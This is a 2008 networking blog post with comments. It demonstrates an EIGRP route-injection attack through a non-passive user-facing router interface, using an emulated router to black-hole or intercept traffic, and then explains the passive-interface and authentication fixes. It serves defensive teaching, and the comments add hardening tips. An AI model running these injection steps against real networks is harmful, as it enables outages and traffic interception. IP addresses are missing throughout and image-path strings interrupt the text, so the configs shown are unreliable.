Have you been looking for a better way to model your network infrastructure? Check out what we're doing with NetBox! Open source and widely extensible, NetBox has enabled thousands of organizations to automate their networks like never before possible.

The dangers of nonpassive router interfaces

By stretch | Tuesday, October 7, 2008 at 12:25 a.m. UTC

By default, any network interface advertised by an IGP is considered active for that protocol. This means that the router will send information out that interface in an attempt to advertise routes or form adjacencies with neighboring routers. While this provides a bit of convenience to the administrator, it also presents a gaping security hole if neighbor adjacencies are not securely authenticated.

The Vulnerability

Consider a simple network of three routers running EIGRP. R1 advertises a default route to routers 2 and 3, each of which attaches a user subnet.


All three routers have a minimal EIGRP configuration:

R2# show run | section eigrp
router eigrp 100
 no auto-summary

Note that network encompasses all three interfaces on both R2 and R3. This means the user-facing interfaces (on which we should never see another router) are active in the EIGRP process alongwith the two neighbor-facing interfaces:

R2# show ip eigrp interfaces
IP-EIGRP interfaces for process 100
                    Xmit Queue   Mean   Pacing Time   Multicast    Pending
Interface        Peers  Un/Reliable  SRTT   Un/Reliable   Flow Timer   Routes
Fa0/0              1        0/0        34       0/2          104           0
Fa0/1              1        0/0        35       0/2          156           0
Fa1/0              0        0/0         0       0/1            0           0

While this might seem inconsequential on the surface, remember that this means EIGRP hello packets are being multicast out Fa1/0 to the user subnet, and the router is listening for hellos from potential adjacent routers. As it stands right now, this network is completely vulnerable toan attacker in either user subnet wanting to manipulate itsrouting architecture.

The Attack

The first step such an attacker would take is to sniff traffic on the local subnet. The hellos sent by R2 provide all the information (AS number and K values) necessary to form an EIGRP adjacency.


As I've discussed previously, Dynamips is an ideal tool for emulating routers for network penetration purposes. Using the information gleaned from the EIGRP packet capture, an attacker can bind an emulated IOS router to the physical interface of his device and configure it to form an adjacency with R2. R2 will view the attacker as a legitimate peer router.


The attacker's virtual router is configured similar to the "real" routers (it is assumed that F0/0 of the virtual router is bound to the physical interface of the host device):

interface FastEthernet0/0
 ip address
router eigrp 100
 no auto-summaryR2 and the attacker's router form an adjacency shortly after the physical connection is completed:

%DUAL-5-NBRCHANGE: IP-EIGRP(0) 100: Neighbor (FastEthernet1/0) is up:
new adjacency

We can verify that the attacker's router has received the entire EIGRP topology from R2:

Attacker# show ip route
Codes: C - connected, S - static, R - RIP, M - mobile, B - BGP
   D - EIGRP, EX - EIGRP external, O - OSPF, IA - OSPF inter area
   N1 - OSPF NSSA external type 1, N2 - OSPF NSSA external type 2
   E1 - OSPF external type 1, E2 - OSPF external type 2
   i - IS-IS, su - IS-IS summary, L1 - IS-IS level-1, L2 - IS-IS level-2
   ia - IS-IS inter area, * - candidate default, U - per-user static route
   o - ODR, P - periodic downloaded static route

Gateway of last resort is to network is variably subnetted, 5 subnets, 2 masks
D [90/76800] via, 00:00:25, FastEthernet0/0
D [90/102400] via, 00:00:25, FastEthernet0/0
D [90/79360] via, 00:00:25, FastEthernet0/0
C is directly connected, FastEthernet0/0
D [90/76800] via, 00:00:25, FastEthernet0/0
D*EX [170/332800] via, 00:00:25, FastEthernet0/0

As IGPs have no concept of privilege separation, the attacker is now free to manipulate the network's routing table at will. For example, he could create a denial of service attack by injecting a default route pointing to himself with a better metric than the route advertised by R1, effectively black-holing all traffic bound for the Internet.

Attacker(config)# ip route null0
Attacker(config)# router eigrp 100
Attacker(config-router)# redistribute static metric 10000000 1 255 1 1500

Routers 1 and 2 see the injected route as having a more favorable metric, and will now forward all traffic with no more-specific match in the routing table to the attacker.

R2# show ip route
Routing entry for, supernet
  Known via "eigrp 100", distance 170, metric 28416, candidate default path,
type external
  Redistributing via eigrp 100
  Last update from on FastEthernet1/0, 00:02:17 ago
  Routing Descriptor Blocks:
  *, from, 00:02:17 ago, via FastEthernet1/0
  Route metric is 28416, traffic share count is 1
  Total delay is 110 microseconds, minimum bandwidth is 100000 Kbit
  Reliability 255/255, minimum MTU 1500 bytes
  Loading 1/255, Hops 1

This concept could easily be expanded to accomplish a man-in-the-middle (MITM) attack against the network, using asecond line to forward the traffic on to its final destination.

The Fix

The easiest and most effective solution is simply to designate any interfaces on which a neighbor shouldn't appear as passive interfaces.

R2(config)# router eigrp 100
R2(config-router)# passive-interface f1/0

A passive interface won't transmit any hello packets, and thus cannot form an adjacency. Although best practice dictates that access subnets shouldn't be used for transport of routing information between peers, the scenario may arise with noalternative. In these cases it is critical that the routing exchanges be securely authenticated. An intruder may still be able to sniff the routing exchanges (depending on your layer 2 setup), but authentication will mitigate unauthorized adjacencies. For even better security, configure the routing to take place over an encrypted tunnel between the two neighbors.

Posted in Security

Support PacketLife by buying stuff you don't need!


Paul Stewart
October 7, 2008 at 12:49 a.m. UTC

This is a great point that is overlooked on many networks.

October 7, 2008 at 6:47 a.m. UTC

We could use EIGRP authentication, or ?

And I think that we couldn't usethe passive interface command if wehad configured EIGRP like that :

R2# show run | section eigrp router eigrp 100 network network network no auto-summary

October 7, 2008 at 8:31 a.m. UTC

One of the first things to do when creating a new router process should be a 'passive-interface default', followed by explicitly mentioning which interfaces we want to operate on.

Garry Richardson
October 7, 2008 at 9:05 a.m. UTC

Quality document! Going to re-create this in my lab.

Thanks, Garry

October 7, 2008 at 10:12 a.m. UTC

@Dan: Sure you could. That's why the command is there; to allow the network to be advertised in EIGRP but to prevent EIGRP hellos form being sent out that interface.

October 7, 2008 at 1:00 p.m. UTC

Yeah I got it now.

If I have configured EIGRP like i wrote above, the others routers would find out about the through FA0/0 on R2, am I right? The FA0/1 is not necessary for routing?

October 7, 2008 at 1:26 p.m. UTC

isn't this a 'best practice' : put passive interface for each interface that does not participate in routes exchange ? or use authentication :)October 7, 2008 at 1:43 p.m. UTC

Another good process is shutting down unused ports so that an attacker can not just plug into the network ;)

October 7, 2008 at 4:17 p.m. UTC

Nice setup. Using network statements that define specific interfaces using the wildcard is another good way to limit hellos

October 7, 2008 at 4:32 p.m. UTC

great post as always! i'm in the middle of rebuilding my lab but i can't bind the gns3 lab to my physical NIC. Can someone describe how to do this? many thanks in advance

October 7, 2008 at 7:24 p.m. UTC

@Chris: try http://7200emu.hacki.at, an excellent site on dynamips, dynagen and all that stuff. Everything's there you need for this.

October 7, 2008 at 8:38 p.m. UTC

Thanks Dude, I've sorted it out and redirected the whole traffic through my virtual GNS3 lab after injecting another route.awesome!

October 7, 2008 at 9:28 p.m. UTC

Great article Stretch, cheers.

October 9, 2008 at 3:35 p.m. UTC

What we do...

All of our EIGRP links are on their own vlans with their own IP schemes, then we passive-interface all the vlans that are not the EIGRP vlans or point to point vlans that go to other routers. works pretty good.

October 14, 2008 at 1:22 a.m. UTCYo all, when stretch said something about encryption...did he mean encrypting the hello's or tunnelling all the information?

how do you achieve that in eigrp?

Hroi Sigurdsson
October 17, 2008 at 1:53 p.m. UTC

The more secure and convenient way is to specify whichinterfaces should participate in the formation of routing protocol adjacencies, instead of the other way around (especially if you have tens or hundreds of interfaces):

! router xyz 123 passive-interface default no passive-interface f0/0 no passive-interface f0/1

August 13, 2014 at 1:13 a.m. UTC
  1. Configure "passive-interface default" - Configure "no passive-interface" only on interfaces that are expected to form adjacencies.
  2. Enable EIGRP Authentication
  3. Set all unused ports to anseparate VLAN ("switchport access vlan 99"), disable DTP ("switchport nonegotiate"), and shutdown the unused ports ("shutdown").
  4. Port Security -- When properly configured, would err-disable ("switchport port-security violation shutdown") the port if an unexpected MAC Address, such as the one on the Dynamips/GNS3 routerwas connected to a switchport.
Comments have closed forthis article due to its age.